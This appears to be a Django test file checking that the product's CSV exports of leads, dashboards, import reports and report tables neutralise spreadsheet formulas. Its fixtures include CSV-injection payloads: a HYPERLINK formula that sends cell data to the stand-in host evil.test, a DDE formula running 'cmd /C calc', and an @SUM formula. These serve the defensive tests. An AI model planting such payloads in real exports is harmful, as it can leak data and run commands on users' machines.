"""Every CSV the product writes neutralises spreadsheet formulas (one helper:
apps/accounts/csv_export.py); the nurture list's test is in tests/dispositions/test_views.py."""

import csv
import io

from django.urls import reverse

from apps.compliance.periods import PeriodKind, period_for
from apps.dashboards import reports
from apps.dashboards.scope import period_token
from apps.dashboards.selectors import organization_timezone
from apps.handoff import channels
from apps.leads import services as lead_services
from tests.leads.factories import LeadFactory

HYPERLINK = '=HYPERLINK("http://evil.test/?x="&A1,"click")'
CMD = "=cmd|' /C calc'!A0"
AT = "@SUM(1)"


def rows_of(response) -> list[list[str]]:
    content = (
        b"".join(response.streaming_content) if response.streaming else response.content
    ).decode()
    return list(csv.reader(io.StringIO(content)))


def test_lead_list_export(acme, client_as):
    LeadFactory(external_id="X1", company=HYPERLINK, first_name=CMD, campaign=AT)
    rows = rows_of(client_as("executive").get(reverse("leads:lead_export")))
    header, row = rows[0], next(r for r in rows if r[0] == "X1")
    cells = dict(zip(header, row, strict=True))
    assert cells["company"] == "'" + HYPERLINK
    assert cells["first_name"] == "'" + CMD and cells["campaign"] == "'" + AT


def test_dashboard_drilldown_export(acme, client_as):
    lead = LeadFactory(external_id="D1", company=HYPERLINK, first_name=CMD, campaign=AT)
    week = period_for(PeriodKind.WEEK, lead.created_at, organization_timezone())
    response = client_as("executive").get(
        "/dashboards/leads/", {"basis": "created", "period": period_token(week), "format": "csv"}
    )
    assert response.status_code == 200
    rows = rows_of(response)
    cells = dict(zip(rows[0], rows[1], strict=True))
    assert cells["company"] == "'" + HYPERLINK and cells["campaign"] == "'" + AT
    assert cells["name"].startswith("'=cmd")


def test_import_report_download(acme, client_as):
    content = f"Record ID,Email\n{CMD.replace(',', '')},{AT}\n".encode()
    job = lead_services.import_job_create(filename="f.csv", content=content, actor=None)
    lead_services.import_job_start(
        job=job,
        mapping=job.mapping,
        encoding="utf-8",
        date_order="iso",
        time_zone="UTC",
        actor=None,
    )
    channels.import_job_run(job_id=job.pk)
    rows = rows_of(client_as("admin").get(reverse("leads:import_errors", args=[job.pk])))
    assert rows[1][1] == "'" + CMD and rows[1][2] == "email"


def test_report_tables(acme):
    table = reports.ReportTable(
        key="t", title="T", columns=["name", "value"], rows=[[HYPERLINK, -3], [AT, "-12.5"]]
    )
    assert list(csv.reader(io.StringIO(reports.table_csv(table)))) == [
        ["name", "value"],
        ["'" + HYPERLINK, "-3"],
        ["'" + AT, "-12.5"],
    ]
